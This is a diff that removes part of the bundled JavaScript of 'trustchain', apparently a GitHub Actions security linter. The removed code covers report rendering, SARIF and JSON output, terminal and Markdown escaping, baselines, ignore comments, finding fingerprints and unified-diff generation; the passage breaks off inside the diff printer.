-        for (const error of outcome.report?.errors ?? [])
-            host.error(describeReportError(error));
-        await present(outcome, request, presentation, stdout);
-        for (const note of outcome.notes ?? [])
-            host.log(note);
-        if (outcome.report)
-            host.log(closingLine(outcome.report, performance.now()));
-        return status;
-    }
-    catch (error) {
-        for (const line of describeError(error, host.env.TRUSTCHAIN_DEBUG === "1"))
-            host.error(line);
-        return 2;
-    }
-}
-async function present(outcome, request, { format, output, color, width }, stdout) {
-    const { report, context = NO_CONTEXT } = outcome;
-    if (request.diff)
-        await writeResult(stdout, outcome.diff ?? "");
-    if (!report) {
-        if (!request.diff)
-            await writeResult(stdout, outputLines(outcome));
-        return;
-    }
-    if (request.diff && output === undefined)
-        return;
-    const text = await renderReport(format, report, context, { color: color && output === undefined, width });
-    if (output === undefined)
-        await writeResult(stdout, text);
-    else
-        writeFileWhole(output, text, "--output");
-}
-const NO_CONTEXT = { source: () => undefined, rule: () => undefined };
-/** `name: value` for each output of an action that makes no report. */
-function outputLines(outcome) {
-    return Object.entries(outcome.outputs ?? {})
-        .map(([name, value]) => `${name}: ${oneLine(String(value))}\n`)
-        .join("");
-}
-function closingLine(report, milliseconds) {
-    const files = report.files === 1 ? "1 file" : `${report.files} files`;
-    return `${files} in ${(milliseconds / 1000).toFixed(2)} s`;
-}
-
-;// CONCATENATED MODULE: external "node:os"
-const external_node_os_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:os");
-;// CONCATENATED MODULE: ./packages/action-kit/lib/run/report-files.js
-
-
-
-
-
-const PLAIN = { color: false, width: 100 };
-/**
- * Writes the report as JSON and SARIF into the runner's temporary folder.
- * The names hold the action and the step, so that they are the same in each run of a job and no two steps share them.
- */
-async function writeReports(action, report, context, env) {
-    const base = freeBase(env.RUNNER_TEMP || (0,external_node_os_namespaceObject.tmpdir)(), action, env.GITHUB_ACTION ?? "");
-    const files = { json: `${base}.json`, sarif: `${base}.sarif` };
-    write_file_whole_writeFileWhole(files.json, await (0,lib/* renderReport */.B1)("json", report, context, PLAIN));
-    write_file_whole_writeFileWhole(files.sarif, await (0,lib/* renderReport */.B1)("sarif", report, context, PLAIN));
-    return files;
-}
-/** Steps of composite actions may share a `GITHUB_ACTION`: those that come later get a number. */
-function freeBase(folder, action, step) {
-    const name = ["trustchain", action, step.replace(/[^A-Za-z0-9_-]+/g, "-").slice(0, 100)].filter(Boolean).join("-");
-    let base = (0,external_node_path_.join)(folder, name);
-    for (let n = 2; (0,external_node_fs_.existsSync)(`${base}.json`) || (0,external_node_fs_.existsSync)(`${base}.sarif`); n++)
-        base = (0,external_node_path_.join)(folder, `${name}-${n}`);
-    return base;
-}
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/run/run-on-runner.js
-
-
-
-
-/**
- * The whole life of an action on a runner: the entry of each action's bundle.
- * Sets the exit status of the process, which fails the step; never rejects.
- */
-async function runOnRunner(action, main) {
-    const { runnerHost } = await __nccwpck_require__.e(/* import() */ 961).then(__nccwpck_require__.bind(__nccwpck_require__, 9961));
-    process.exitCode = await runOnHost(action, main, await runnerHost());
-}
-/** The same on any host. */
-async function runOnHost(action, main, host) {
-    try {
-        const { outcome, settings } = await main.start(host, NOTHING_ASKED);
-        for (const [name, value] of Object.entries(outcome.outputs ?? {}))
-            host.setOutput(name, value);
-        for (const note of outcome.notes ?? [])
-            host.log(note);
-        await report(action.name, outcome, settings, host);
-        return outcome_exitStatusOf(outcome.report, settings.failOn);
-    }
-    catch (error) {
-        for (const line of describe_error_describeError(error, debugging(host)))
-            host.error(line);
-        return 2;
-    }
-}
-/** `RUNNER_DEBUG` is what the runner sets when someone runs a job again with debug logging. */
-function debugging({ env }) {
-    return env.TRUSTCHAIN_DEBUG === "1" || env.RUNNER_DEBUG === "1";
-}
-async function report(name, outcome, settings, host) {
-    const { report, context = { source: () => undefined, rule: () => undefined } } = outcome;
-    if (!report)
-        return;
-    for (const error of report.errors)
-        host.error(describe_error_describeReportError(error));
-    const files = await writeReports(name, report, context, host.env);
-    host.setOutput("findings", countFailing(report, settings.failOn));
-    host.setOutput("report", files.json);
-    host.setOutput("sarif", files.sarif);
-    const { annotations, jobSummary } = await Promise.resolve(/* import() */).then(__nccwpck_require__.bind(__nccwpck_require__, 1001));
-    for (const note of annotations(report, context))
-        host.annotate(inWorkspace(note, outcome.root, host.cwd));
-    await host.summarize(await jobSummary(report, context));
-    if (settings.uploadSarif) {
-        const { uploadSarif } = await __nccwpck_require__.e(/* import() */ 778).then(__nccwpck_require__.bind(__nccwpck_require__, 1778));
-        await uploadSarif(files.sarif, settings, host);
-    }
-}
-/** GitHub finds the line of a note only by a path from the workspace; the report's start from the repository that was judged. */
-function inWorkspace(note, root, workspace) {
-    if (root === undefined || note.path === undefined)
-        return note;
-    const path = (0,external_node_path_.relative)((0,external_node_path_.resolve)(workspace), (0,external_node_path_.join)((0,external_node_path_.resolve)(workspace, root), note.path));
-    return { ...note, path: path.split(external_node_path_.sep).join("/") };
-}
-
-// EXTERNAL MODULE: ./packages/action-kit/lib/version.js
-var version = __nccwpck_require__(3465);
-;// CONCATENATED MODULE: ./packages/action-kit/lib/index.js
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-/***/ }),
-
-/***/ 9316:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   T: () => (/* binding */ oneLine)
-/* harmony export */ });
-/* harmony import */ var _trustchain_findings__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(1001);
-
-/** A text that may come from anywhere as one line that a terminal and a log show as it is. */
-function oneLine(text) {
-    return (0,_trustchain_findings__WEBPACK_IMPORTED_MODULE_0__/* .escapeTerminal */ .en)(text.replace(/\r/g, "\\r").replace(/\n/g, "\\n"));
-}
-
-
-/***/ }),
-
-/***/ 9363:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   $N: () => (/* binding */ codeOf),
-/* harmony export */   WE: () => (/* binding */ explain),
-/* harmony export */   bD: () => (/* binding */ messageOf)
-/* harmony export */ });
-/** The code of a system error (`ENOENT`), or nothing. */
-function codeOf(error) {
-    const code = error?.code;
-    return typeof code === "string" ? code : "";
-}
-/** What an error says, whatever was thrown; errors of another realm are no `Error` of ours. */
-function messageOf(error) {
-    const message = error?.message;
-    return typeof message === "string" ? message : String(error);
-}
-const REASONS = new Map([
-    ["ENOSPC", "no space is left on the device"],
-    ["EACCES", "permission is denied"],
-    ["EPERM", "permission is denied"],
-    ["EROFS", "the file system is read-only"],
-    ["ENOENT", "does not exist"],
-    ["ENOTDIR", "a part of the path is not a folder"],
-    ["EISDIR", "is a folder"],
-    ["ELOOP", "symbolic links lead in a circle"],
-    ["ENAMETOOLONG", "the name is too long"],
-    ["EMFILE", "too many files are open"],
-    ["EIO", "the device failed"],
-]);
-/** What a system error means, in words. */
-function explain(error) {
-    return REASONS.get(codeOf(error)) ?? messageOf(error);
-}
-
-
-/***/ }),
-
-/***/ 5561:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   y: () => (/* binding */ UserError)
-/* harmony export */ });
-/**
- * Something the user can mend: where it is, what is wrong, what to do. Printed as one line, `error: <place>: <cause>: <remedy>`.
- * Everything else that is thrown is a defect of trustchain and says so.
- */
-class UserError extends Error {
-    place;
-    reason;
-    remedy;
-    constructor(
-    /** An option, an input, or `file[:line[:column]]`. */
-    place, reason, remedy) {
-        super(`${place}: ${reason}: ${remedy}`);
-        this.place = place;
-        this.reason = reason;
-        this.remedy = remedy;
-        this.name = "UserError";
-    }
-}
-
-
-/***/ }),
-
-/***/ 3465:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   x: () => (/* binding */ VERSION)
-/* harmony export */ });
-/** The version of trustchain; the same as in the root's package.json (a test holds them together). */
-const VERSION = "0.1.0";
-
-
-/***/ }),
-
-/***/ 1533:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   D9: () => (/* binding */ markdownCode),
-/* harmony export */   FV: () => (/* binding */ escapeMarkdown),
-/* harmony export */   GO: () => (/* binding */ escapeJson),
-/* harmony export */   en: () => (/* binding */ escapeTerminal),
-/* harmony export */   ju: () => (/* binding */ markdownMessage)
-/* harmony export */ });
-/**
- * Characters that change how a terminal, a log or a page shows the text around them, or that can't be seen: C0 and C1
- * controls, direction marks (Unicode TR 9), zero-width and filler characters, tags, halves of surrogate pairs.
- */
-const UNSAFE = 
-// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
-/[\x00-\x1f\x7f-\x9f\xad\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0\ufff9-\ufffb\u{e0000}-\u{e007f}\p{Cs}]/gu;
-const NAMED = { "\n": "\\n", "\r": "\\r", "\t": "\\t" };
-/**
- * A text that may come from anywhere as one line that a terminal shows as it is: what is unsafe stands as an escape,
- * such as `\n`, `\x1b` or `\u202e`.
- */
-function escapeTerminal(text) {
-    return text.replace(UNSAFE, visible);
-}
-function visible(char) {
-    const code = char.codePointAt(0);
-    const hex = code.toString(16);
-    return (NAMED[char] ??
-        (code <= 0xff ? `\\x${hex.padStart(2, "0")}` : code <= 0xffff ? `\\u${hex.padStart(4, "0")}` : `\\u{${hex}}`));
-}
-/**
- * JSON text in which strings hold no unsafe character raw. It means the same: only `\u` escapes take their place.
- *
- * @param json as `JSON.stringify` writes it; its line breaks stay
- * @see RFC 8259, section 7
- */
-function escapeJson(json) {
-    return json.replace(UNSAFE, (char) => (char === "\n" ? char : unitEscapes(char)));
-}
-function unitEscapes(char) {
-    let text = "";
-    for (let i = 0; i < char.length; i++)
-        text += `\\u${char.charCodeAt(i).toString(16).padStart(4, "0")}`;
-    return text;
-}
-/** Zero width space: breaks up what would become a link or a mention, and can't be seen. */
-const BREAK = "\u200b";
-/** What ends or begins something in HTML or in a table. A bar is an entity: `\|` after a backslash would end the cell. */
-const ENTITIES = {
-    "&": "&amp;",
-    "<": "&lt;",
-    ">": "&gt;",
-    '"': "&quot;",
-    "|": "&#124;",
-    [BREAK]: "&#8203;",
-};
-/**
- * A text that may come from anywhere as Markdown that shows it as it is, on one line, in a table's cell too: no markup,
- * no HTML, no link, no mention, no reference to an issue.
- *
- * @see GitHub Flavored Markdown, sections 2.4 (backslash escapes), 4.10 (tables) and 6.9 (autolinks)
- */
-function escapeMarkdown(text) {
-    return escapeTerminal(text)
-        .replace(/@|:(?=\/\/)|www(?=\.)|\bgh-(?=\d)|#(?=\d)/gi, `$&${BREAK}`)
-        .replace(/[\\`*_[\]#!~$]/g, "\\$&")
-        .replace(/[&<>"|\u200b]/g, (char) => ENTITIES[char])
-        .replace(/^(\s*)([-+=]|\d{1,9}(?=[.)]))/, (_, space, mark) => `${space}${/\d/.test(mark) ? `${mark}\\` : `\\${mark}`}`);
-}
-/** The same as a code span, where one can hold it. */
-function markdownCode(text) {
-    const shown = escapeTerminal(text);
-    // Inside a table a code span can't hold a bar, and backticks or outer spaces need more care than they are worth.
-    return shown === "" || /[`|]|^ | $/.test(shown) ? escapeMarkdown(text) : `\`${shown}\``;
-}
-/**
- * A message, with its code spans, as Markdown. Messages quote what a repository says between backticks: whatever stands
- * there, each part is shown as it is.
- */
-function markdownMessage(message) {
-    const parts = message.split("`");
-    // A backtick without its partner belongs to the text.
-    if (parts.length % 2 === 0) {
-        const last = parts.pop();
-        parts[parts.length - 1] += `\`${last}`;
-    }
-    let markdown = "";
-    for (let i = 0; i < parts.length; i++) {
-        const part = parts[i];
-        markdown += i % 2 === 1 && part !== "" ? markdownCode(part) : escapeMarkdown(part);
-    }
-    return markdown;
-}
-
-
-/***/ }),
-
-/***/ 45:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   DM: () => (/* binding */ lowered),
-/* harmony export */   Eg: () => (/* binding */ compareFindings),
-/* harmony export */   Ud: () => (/* binding */ PERSONAS),
-/* harmony export */   du: () => (/* binding */ isAtLeast),
-/* harmony export */   it: () => (/* binding */ isHeardBy),
-/* harmony export */   n6: () => (/* binding */ compareText),
-/* harmony export */   oC: () => (/* binding */ SEVERITIES),
-/* harmony export */   zK: () => (/* binding */ compareSeverity)
-/* harmony export */ });
-/* unused harmony export CONFIDENCES */
-/** From worst to least; the order is the order of reports. */
-const SEVERITIES = ["critical", "high", "medium", "low", "info"];
-const CONFIDENCES = (/* unused pure expression or super */ null && (["high", "medium", "low"]));
-/** For whom a finding speaks; each persona also hears what the ones before it hear (zizmor's word). */
-const PERSONAS = ["regular", "pedantic", "auditor"];
-/** Negative when `a` is worse than `b`. */
-function compareSeverity(a, b) {
-    return SEVERITIES.indexOf(a) - SEVERITIES.indexOf(b);
-}
-function isAtLeast(severity, threshold) {
-    return compareSeverity(severity, threshold) <= 0;
-}
-/** One level less severe; `info` stays. */
-function lowered(severity) {
-    return SEVERITIES[Math.min(SEVERITIES.indexOf(severity) + 1, SEVERITIES.length - 1)];
-}
-/** Does a finding made for `persona` reach someone who asked as `asked`? */
-function isHeardBy(persona, asked) {
-    return PERSONAS.indexOf(persona) <= PERSONAS.indexOf(asked);
-}
-/** The order of reports: path, line, column, rule, then message so that equal places keep one order. */
-function compareFindings(a, b) {
-    return (compareText(a.location.path, b.location.path) ||
-        a.location.startLine - b.location.startLine ||
-        a.location.startColumn - b.location.startColumn ||
-        compareText(a.rule, b.rule) ||
-        compareText(a.message, b.message));
-}
-/** Order by UTF-16 code units: the same on every machine, unlike `localeCompare`. */
-function compareText(a, b) {
-    return a < b ? -1 : a > b ? 1 : 0;
-}
-
-
-/***/ }),
-
-/***/ 1001:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-
-// EXPORTS
-__nccwpck_require__.d(__webpack_exports__, {
-  IF: () => (/* reexport */ FormatError),
-  Ud: () => (/* reexport */ finding/* PERSONAS */.Ud),
-  oC: () => (/* reexport */ finding/* SEVERITIES */.oC),
-  sC: () => (/* reexport */ SourceFile),
-  annotations: () => (/* reexport */ github.annotations),
-  Qp: () => (/* reexport */ applyBaseline),
-  XX: () => (/* reexport */ applyComments),
-  ct: () => (/* reexport */ applyEdits),
-  zK: () => (/* reexport */ finding/* compareSeverity */.zK),
-  n6: () => (/* reexport */ finding/* compareText */.n6),
-  Ot: () => (/* reexport */ report/* countBySeverity */.O),
-  en: () => (/* reexport */ lib_escape/* escapeTerminal */.en),
-  f5: () => (/* reexport */ fingerprintFindings),
-  du: () => (/* reexport */ finding/* isAtLeast */.du),
-  it: () => (/* reexport */ finding/* isHeardBy */.it),
-  jobSummary: () => (/* reexport */ jobSummary),
-  DM: () => (/* reexport */ finding/* lowered */.DM),
-  nk: () => (/* reexport */ parseBaseline),
-  B1: () => (/* reexport */ renderReport),
-  _u: () => (/* reexport */ selectFixes),
-  Tc: () => (/* reexport */ report/* sortFindings */.T),
-  WH: () => (/* reexport */ unifiedDiff),
-  B9: () => (/* reexport */ writeBaseline)
-});
-
-// UNUSED EXPORTS: CONFIDENCES, compareFindings, escapeMarkdown, ignoreComments, overlaps, reportSchema
-
-// EXTERNAL MODULE: ./packages/findings/lib/finding.js
-var finding = __nccwpck_require__(45);
-;// CONCATENATED MODULE: ./packages/findings/lib/format-error.js
-/** A file of ours that isn't as it should be: which, where, what is wrong, what to do. */
-class FormatError extends Error {
-    file;
-    reason;
-    remedy;
-    /** 1-based; undefined where the file as a whole is meant. */
-    line;
-    constructor(file, reason, remedy, line) {
-        super(`${line === undefined ? file : `${file}:${line}`}: ${reason}: ${remedy}`);
-        this.file = file;
-        this.reason = reason;
-        this.remedy = remedy;
-        this.name = "FormatError";
-        this.line = line;
-    }
-}
-
-;// CONCATENATED MODULE: ./packages/findings/lib/baseline.js
-
-
-/** The version of the file's form; the version of the tool that wrote it does not matter. */
-const SCHEMA = 1;
-const REMEDY = "write it again with --write-baseline";
-/**
- * Reads a baseline.
- *
- * @param file how errors call it
- * @throws FormatError when it is none
- */
-function parseBaseline(text, file) {
-    let parsed;
-    try {
-        parsed = JSON.parse(text);
-    }
-    catch {
-        throw new FormatError(file, "it is not JSON", REMEDY);
-    }
-    if (!isRecord(parsed) || !("schema" in parsed))
-        throw new FormatError(file, "it is no baseline", REMEDY);
-    if (parsed.schema !== SCHEMA) {
-        const given = JSON.stringify(parsed.schema)?.slice(0, 20);
-        throw new FormatError(file, `it has schema ${given}, and this version reads schema ${SCHEMA}`, REMEDY);
-    }
-    const { findings } = parsed;
-    if (!Array.isArray(findings))
-        throw new FormatError(file, "it has no list of findings", REMEDY);
-    return new Set(findings.map((finding, i) => fingerprintOf(finding, i, file)));
-}
-function fingerprintOf(finding, index, file) {
-    if (isRecord(finding) && typeof finding.fingerprint === "string")
-        return finding.fingerprint;
-    throw new FormatError(file, `finding ${index + 1} has no fingerprint`, REMEDY);
-}
-function isRecord(value) {
-    return typeof value === "object" && value !== null;
-}
-/** Marks the findings that a baseline knows. Those that are silenced otherwise keep their reason. */
-function applyBaseline(findings, baseline) {
-    const suppressed = { by: "baseline", reason: "known in the baseline" };
-    return findings.map((finding) => !finding.suppressed && baseline.has(finding.fingerprint) ? { ...finding, suppressed } : finding);
-}
-/** A baseline that holds the findings which nothing silences; those that an older baseline silenced stay in. */
-function writeBaseline(findings, version) {
-    const known = findings
-        .filter((finding) => !finding.suppressed || finding.suppressed.by === "baseline")
-        .map(({ fingerprint, rule, location, message }) => ({ fingerprint, rule, path: location.path, message }))
-        .sort((a, b) => (0,finding/* compareText */.n6)(a.path, b.path) || (0,finding/* compareText */.n6)(a.rule, b.rule) || (0,finding/* compareText */.n6)(a.fingerprint, b.fingerprint));
-    return `${JSON.stringify({ schema: SCHEMA, tool: { name: "trustchain", version }, findings: known }, null, 2)}\n`;
-}
-
-;// CONCATENATED MODULE: ./packages/findings/lib/comments.js
-const IGNORE = /^\s*(trustchain|zizmor)\s*:\s*ignore\s*\[([^\]\r\n]*)\]\s*(.*)$/;
-/**
- * The ignore comments among a file's comments.
- *
- * One at the end of a line speaks of that line; one alone on its line of the next line that is no such comment.
- */
-function ignoreComments(comments) {
-    const alone = new Set(comments.filter((comment) => comment.alone).map((comment) => comment.line));
-    return comments.flatMap((comment) => {
-        const match = IGNORE.exec(comment.text);
-        if (!match)
-            return [];
-        const rules = match[2]
-            .split(",")
-            .map((id) => id.trim())
-            .filter((id) => id !== "");
-        const dialect = match[1];
-        return [{ comment, dialect, rules, reason: match[3].trim(), lines: linesOf(comment, alone) }];
-    });
-}
-function linesOf(comment, alone) {
-    if (!comment.alone)
-        return [comment.line];
-    let line = comment.line + 1;
-    while (alone.has(line))
-        line++;
-    return [line];
-}
-/**
- * Marks the findings of one file that its comments silence.
- *
- * zizmor's comments count for rules that both tools share. zizmor asks for no reason, so none is asked for.
- */
-function applyComments(findings, comments, options) {
-    const ignores = ignoreComments(comments);
-    const used = new Set();
-    const silenced = findings.map((finding) => {
-        if (finding.suppressed)
-            return finding;
-        const ignore = ignores.find((candidate) => silences(candidate, finding, options));
-        if (!ignore)
-            return finding;
-        used.add(useKey(ignore, finding.rule));
-        return { ...finding, suppressed: { by: "comment", reason: ignore.reason || "zizmor ignore" } };
-    });
-    const ours = ignores.filter(({ dialect }) => dialect === "trustchain");
-    return {
-        findings: silenced,
-        withoutReason: ours.filter(({ reason }) => reason === ""),
-        unused: ours
-            .filter(({ reason }) => reason !== "")
-            .flatMap((ignore) => ignore.rules.map((rule) => ({ ignore, rule })))
-            .filter(({ ignore, rule }) => !used.has(useKey(ignore, rule))),
-    };
-}
-function silences(ignore, finding, options) {
-    if (!ignore.rules.includes(finding.rule))
-        return false;
-    const { startLine, endLine } = finding.location;
-    if (ignore.dialect === "zizmor") {
-        // zizmor takes a comment anywhere on the lines of the finding.
-        if (!options.isZizmorRule(finding.rule))
-            return false;
-        const { line } = ignore.comment;
-        return (line >= startLine && line <= endLine) || options.alsoLines(finding).includes(line);
-    }
-    if (ignore.reason === "")
-        return false;
-    const lines = [startLine, endLine, ...options.alsoLines(finding)];
-    return ignore.lines.some((line) => lines.includes(line));
-}
-function useKey(ignore, rule) {
-    return `${ignore.comment.line}:${rule}`;
-}
-
-// EXTERNAL MODULE: ./packages/findings/lib/escape.js
-var lib_escape = __nccwpck_require__(1533);
-;// CONCATENATED MODULE: ./packages/findings/lib/fingerprint.js
-/**
- * Gives each finding its fingerprint: 64 hexadecimal digits, SHA-256 of rule, path, anchor and its number among those
- * that share them, in the order in which they come. It stays the same when lines move.
- */
-function fingerprintFindings(findings) {
-    if (findings.length === 0)
-        return [];
-    // Not an import: commands that fingerprint nothing don't wait for it.
-    const crypto = process.getBuiltinModule("node:crypto");
-    const seen = new Map();
-    return findings.map((finding) => {
-        const identity = `${finding.rule}\0${finding.location.path}\0${finding.anchor}`;
-        const ordinal = seen.get(identity) ?? 0;
-        seen.set(identity, ordinal + 1);
-        // Six times faster than `createHash` for texts of this size.
-        return { ...finding, fingerprint: crypto.hash("sha256", `${identity}\0${ordinal}`, "hex"), suppressed: null };
-    });
-}
-
-;// CONCATENATED MODULE: ./packages/findings/lib/render-report.js
-/** A report in one of its forms, ending with a line break. The same report gives the same text. */
-async function renderReport(format, report, context, options) {
-    switch (format) {
-        case "text":
-            return (await __nccwpck_require__.e(/* import() */ 462).then(__nccwpck_require__.bind(__nccwpck_require__, 5462))).renderText(report, context, options);
-        case "json":
-            return (await __nccwpck_require__.e(/* import() */ 231).then(__nccwpck_require__.bind(__nccwpck_require__, 4231))).renderJson(report);
-        case "sarif":
-            return (await __nccwpck_require__.e(/* import() */ 188).then(__nccwpck_require__.bind(__nccwpck_require__, 3188))).renderSarif(report, context);
-        case "markdown":
-            return (await __nccwpck_require__.e(/* import() */ 920).then(__nccwpck_require__.bind(__nccwpck_require__, 4920))).renderMarkdown(report, context);
-        case "github":
-            return (await Promise.resolve(/* import() */).then(__nccwpck_require__.bind(__nccwpck_require__, 9254))).renderGithub(report, context);
-    }
-}
-/** The report for `GITHUB_STEP_SUMMARY`: Markdown of at most 1 MiB, which is what GitHub takes of a step. */
-async function jobSummary(report, context) {
-    return (await __nccwpck_require__.e(/* import() */ 920).then(__nccwpck_require__.bind(__nccwpck_require__, 4920))).renderJobSummary(report, context);
-}
-
-// EXTERNAL MODULE: ./packages/findings/lib/report.js
-var report = __nccwpck_require__(636);
-// EXTERNAL MODULE: ./packages/findings/lib/reporters/github.js
-var github = __nccwpck_require__(9254);
-;// CONCATENATED MODULE: ./packages/findings/lib/text-edit.js
-/**
- * Applies edits to a text; everything outside them stays as it is.
- *
- * @throws RangeError when edits overlap or leave the text: choose among fixes first, see `selectFixes`.
- */
-function applyEdits(text, edits) {
-    const ordered = [...edits].sort((a, b) => a.start - b.start || a.end - b.end);
-    let result = "";
-    let at = 0;
-    for (const edit of ordered) {
-        if (edit.start < at || edit.end < edit.start || edit.end > text.length) {
-            throw new RangeError(`edit ${edit.start}-${edit.end} overlaps another edit or leaves the text`);
-        }
-        result += text.slice(at, edit.start) + edit.text;
-        at = edit.end;
-    }
-    return result + text.slice(at);
-}
-/** Do two edits touch the same characters, or insert at the same place? */
-function overlaps(a, b) {
-    if (a.start === a.end && b.start === b.end)
-        return a.start === b.start;
-    return a.start < b.end && b.start < a.end;
-}
-
-;// CONCATENATED MODULE: ./packages/findings/lib/select-fixes.js
-
-/**
- * Chooses the fixes to apply in one round: in the order of the findings, each wholly or not at all, none that overlaps one
- * before it. Edits that are the same count once: two fixes may share them.
- */
-function selectFixes(findings, mode) {
-    const files = new Map();
-    for (const finding of findings) {
-        const { fix } = finding;
-        if (!fix || finding.suppressed || (mode === "safe" && !fix.safe))
-            continue;
-        const isFree = fix.files.every(({ path, edits }) => edits.every((edit) => fits(edit, files.get(path)?.edits ?? [])));
-        if (!isFree)
-            continue;
-        for (const { path, edits } of fix.files)
-            take(files, path, edits, finding);
-    }
-    return { files: [...files.values()] };
-}
-function fits(edit, taken) {
-    return taken.every((other) => isSame(edit, other) || !overlaps(edit, other));
-}
-function take(files, path, edits, finding) {
-    const selected = files.get(path) ?? { path, edits: [], findings: [] };
-    files.set(path, selected);
-    selected.edits.push(...edits.filter((edit) => !selected.edits.some((other) => isSame(edit, other))));
-    selected.findings.push(finding);
-}
-function isSame(a, b) {
-    return a.start === b.start && a.end === b.end && a.text === b.text;
-}
-
-;// CONCATENATED MODULE: ./packages/findings/lib/source-file.js
-/**
- * A text file of the repository under judgement, with positions.
- *
- * `text` is what was read from disk, byte order mark included, so that offsets are offsets into the file and an edit
- * can be applied to it as it is. A byte order mark takes no column: it is not part of line 1.
- */
-class SourceFile {
-    path;
-    text;
-    #lineStarts;
-    constructor(
-    /** Path relative to the repository, with `/`. */
-    path, text) {
-        this.path = path;
-        this.text = text;
-    }
-    /** The offset at which each line begins. Lines end with LF, CRLF or a lone CR (YAML 1.2, section 5.4). */
-    get lineStarts() {
-        this.#lineStarts ??= lineStartsOf(this.text);
-        return this.#lineStarts;
-    }
-    get lineCount() {
-        return this.lineStarts.length;
-    }
-    /** Where `offset` is; offsets outside the text are moved to its nearest end. */
-    position(offset) {
-        const starts = this.lineStarts;
-        const at = Math.max(starts[0], Math.min(offset, this.text.length));
-        let low = 0;
-        let high = starts.length - 1;
-        while (low < high) {
-            const middle = (low + high + 1) >> 1;
-            if (starts[middle] <= at)
-                low = middle;
-            else
-                high = middle - 1;
-        }
-        return { line: low + 1, column: at - starts[low] + 1 };
-    }
-    /** The text of a 1-based line without its line break; empty for a line that does not exist. */
-    line(number) {
-        const start = this.lineStarts[number - 1];
-        if (start === undefined)
-            return "";
-        let end = this.lineStarts[number] ?? this.text.length;
-        // By hand: a regular expression would look through the whole line, and lines may have a megabyte.
-        while (end > start && isLineBreak(this.text.charCodeAt(end - 1)))
-            end--;
-        return this.text.slice(start, end);
-    }
-}
-function isLineBreak(code) {
-    return code === 10 || code === 13;
-}
-function lineStartsOf(text) {
-    const starts = [text.charCodeAt(0) === 0xfeff ? 1 : 0];
-    if (text.includes("\r")) {
-        for (let i = 0; i < text.length; i++) {
-            const code = text.charCodeAt(i);
-            if (code === 10 || (code === 13 && text.charCodeAt(i + 1) !== 10))
-                starts.push(i + 1);
-        }
-        return starts;
-    }
-    for (let i = text.indexOf("\n"); i !== -1; i = text.indexOf("\n", i + 1))
-        starts.push(i + 1);
-    return starts;
-}
-
-;// CONCATENATED MODULE: ./packages/findings/lib/unified-diff.js
-
-const CONTEXT = 3;
-/**
- * One unified diff of several files, as `git apply` takes it.
- *
- * @see POSIX `diff`, "Diff -u Output Format"; git's quoting of paths (`core.quotePath`)
- */
-function unifiedDiff(changes) {
-    return [...changes]
-        .filter(({ before, after }) => before !== after)
-        .sort((a, b) => (0,finding/* compareText */.n6)(a.path, b.path))
-        .map(diffOf)
-        .join("");
-}
-function diffOf({ path, before, after }) {
-    const hunks = hunksOf(unified_diff_linesOf(before), unified_diff_linesOf(after));
-    return `--- ${quoted(`a/${path}`)}\n+++ ${quoted(`b/${path}`)}\n${hunks.map(printHunk).join("")}`;
-}
-/** Lines with their line feeds; only the last may lack one. A carriage return is part of its line. */
-function unified_diff_linesOf(text) {
-    return text === "" ? [] : text.split(/(?<=\n)/);
-}
-function hunksOf(old, now) {
-    const hunks = [];
-    for (const change of changesOf(old, now)) {
-        const last = hunks.at(-1)?.changes.at(-1);
-        if (last && change.oldStart - last.oldEnd <= 2 * CONTEXT)
-            hunks.at(-1)?.changes.push(change);
-        else
-            hunks.push({ changes: [change], old, new: now });
-    }
-    return hunks;
-}
-/** How far ahead a line is looked for to find where two texts meet again. Fixes change a few lines at a place. */
-const LOOK_AHEAD = 200;
-/** Differences by walking both texts: where they part, the nearest pair of equal lines is where they meet again. */
-function changesOf(old, now) {
-    const changes = [];
-    let i = 0;
-    let j = 0;
-    while (i < old.length || j < now.length) {
-        if (i < old.length && old[i] === now[j]) {
-            i++;
-            j++;
-            continue;
-        }
-        const [oldEnd, newEnd] = meetingPoint(old, now, i, j);
-        changes.push({ oldStart: i, oldEnd, newStart: j, newEnd });
-        i = oldEnd;
-        j = newEnd;
-    }
-    return changes;
-}
-function meetingPoint(old, now, i, j) {
-    for (let distance = 1; distance <= LOOK_AHEAD; distance++) {
-        for (let skipped = 0; skipped <= distance; skipped++) {
-            const a = i + skipped;
-            const b = j + distance - skipped;
-            if (a < old.length && b < now.length && old[a] === now[b])
-                return [a, b];
-            if (a === old.length && b === now.length)
-                return [a, b];
-        }
-    }
-    return [old.length, now.length];
-}
-function printHunk({ changes, old, new: now }) {
-    const first = changes[0];
-    const last = changes.at(-1);
-    const oldFrom = Math.max(0, first.oldStart - CONTEXT);
-    const oldTo = Math.min(old.length, last.oldEnd + CONTEXT);
-    const newFrom = first.newStart - (first.oldStart - oldFrom);
-    const newTo = last.newEnd + (oldTo - last.oldEnd);
-    let text = `@@ -${rangeOf(oldFrom, oldTo)} +${rangeOf(newFrom, newTo)} @@\n`;
-    let at = oldFrom;
-    for (const change of changes) {
-        text +=
-            print(" ", old, at, change.oldStart) +
-                print("-", old, change.oldStart, change.oldEnd) +
-                print("+", now, change.newStart, change.newEnd);
